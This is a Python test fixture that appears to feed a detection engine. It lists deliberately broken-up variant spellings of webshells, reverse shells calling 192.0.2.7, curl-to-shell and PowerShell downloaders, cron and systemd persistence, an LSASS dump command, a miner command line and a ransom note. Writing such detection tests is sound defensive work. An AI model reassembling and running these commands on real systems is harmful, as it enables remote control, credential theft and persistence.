"""Other spellings that a rule must match too: (rule, file)."""

from __future__ import annotations

from tests.base.inert import inert, wide

VARIANTS: list[tuple[str, bytes]] = [
    ("webshell_php_eval_request", inert("<?php if(1){ev·al(base64_decode($_REQU·EST['z']));}?>")),
    ("webshell_php_eval_request", inert("<?php @ass·ert($_PO·ST['z']); ?>")),
    ("webshell_php_eval_request", inert("<?php ev·al($_SER·VER['HTTP_X_A']); ?>")),
    ("webshell_php_command_request", inert('<?php passt·hru("$_GE·T[c]"); ?>')),
    ("webshell_php_command_request", inert("<?= shel·l_exec($_GE·T['c']) ?>")),
    ("webshell_php_backtick_request", inert("<?=`$_GE·T[0]`?>")),
    ("webshell_php_nested_decoders", inert("<?php ev·al(base·64_decode('«80»')); ?>")),
    (
        "webshell_jsp_exec_request",
        inert('<% Runtime.getRun·time().ex·ec("cmd /c "+request.getPara·meter("c")); %>'),
    ),
    ("webshell_aspx_eval_request", inert('<%ev·al requ·est("x")%>')),
    ("webshell_aspx_eval_request", inert('<%exec·ute(requ·est("x"))%>')),
    (
        "webshell_python_request",
        inert("import flask\nfrom flask import request\ncmd = requ·est.args.get('c')\nos.po·pen(cmd)\n"),
    ),
    ("reverse_shell_bash_tcp", inert("0<&196;ex·ec 196<>/d·ev/tcp/192.0.2.7/80; s·h <&196 >&196 2>&196")),
    (
        "reverse_shell_bash_tcp",
        inert("ex·ec 5<>/d·ev/tcp/192.0.2.7/80;cat <&5 | while re·ad l; do $l 2>&·5 >&5; done"),
    ),
    ("reverse_shell_bash_tcp", inert("/bin/ba·sh -i > /d·ev/tcp/192.0.2.7/80 0<& 2>&1")),
    ("reverse_shell_netcat_exec", inert("nca·t 192.0.2.7 4444 -·e /bin/ba·sh")),
    ("reverse_shell_netcat_exec", inert("n·c.exe -·e cm·d.exe 192.0.2.7 4444")),
    (
        "reverse_shell_named_pipe",
        inert("mkno·d /tmp/p p; s·h -i < /tmp/p 2>&1 | tel·net 192.0.2.7 80 > /tmp/p"),
    ),
    (
        "reverse_shell_named_pipe",
        inert(
            "mkfi·fo /tmp/s; /bin/s·h -i < /tmp/s 2>&1 | open·ssl s_client -quiet -connect 192.0.2.7:1 > /tmp/s"
        ),
    ),
    (
        "reverse_shell_python",
        inert(
            'import socket,os;s=socket.socket();s.con·nect(("192.0.2.7",1));'
            '[os.du·p2(s.fil·eno(),fd) for fd in (0,1,2)];import pty;pty.sp·awn("sh")'
        ),
    ),
    ("reverse_shell_php", inert('php -r \'$s=fsock·open("192.0.2.7",1);she·ll_exec("s·h <&3 >&3 2>&3");\'')),
    (
        "reverse_shell_powershell",
        wide(
            "$c=New-Object Net.Soc·kets.TCPC·lient('h',1);$s=$c.GetStr·eam();"
            "$w=New-Object IO.StreamWri·ter($s);while($s.Re·ad($b)){ie·x $d}"
        ),
    ),
    (
        "downloader_powershell_hidden",
        wide("power·shell -WindowStyle Hid·den iwr http·s://example.invalid/a -OutFile b"),
    ),
    ("downloader_curl_to_shell_plain", inert('ba·sh -c "$(cu·rl -fsSL http://192.0.2.7/x)"')),
    ("downloader_shell_base64", inert("ec·ho '«60»' | base·64 --decode | sudo ba·sh")),
    ("downloader_mshta", wide('ms·hta.exe "java·script:close()"')),
    ("downloader_python_exec_encoded", inert("ex·ec(__imp·ort__('base64').b64dec·ode(b'«64»'))")),
    ("powershell_encoded_command", inert("power·shell -W Hidden -E «ps:Get-Date; Get-Date; Get-Date»")),
    (
        "macro_auto_runs_program",
        inert(
            'Attribute VB_Name = "D"\r\nPrivate Sub Docu·ment_Open()\r\nCreateObject("WScript.Sh·ell").Run "x"\r\n'
        ),
    ),
    (
        "persistence_cron_download",
        inert("* * * * * wg·et -q -O - http://192.0.2.7/x.sh | s·h > /dev/null 2>&1"),
    ),
    ("persistence_cron_writer", inert("ec·ho '* * * * * cu·rl http://192.0.2.7/x|ba·sh' | cron·tab -")),
    (
        "persistence_systemd_unit",
        inert("[Serv·ice]\nType=simple\nExecSt·art=/bin/bash -c 'cu·rl http://192.0.2.7/x | ba·sh'\n"),
    ),
    (
        "ransom_note",
        wide(
            "Your netw·ork has been loc·ked. Recover your fi·les: pay in Mon·ero within 72 hours. qT·ox only."
        ),
    ),
    ("stealer_dumps_lsass", inert("proc·dump64.exe -accepteula -ma ls·ass.exe out.dmp")),
    (
        "miner_command_line",
        inert("./x·m·rig -o po·ol.example.invalid:443 -u 4harmless0harmless0harmless0 -p x"),
    ),
]
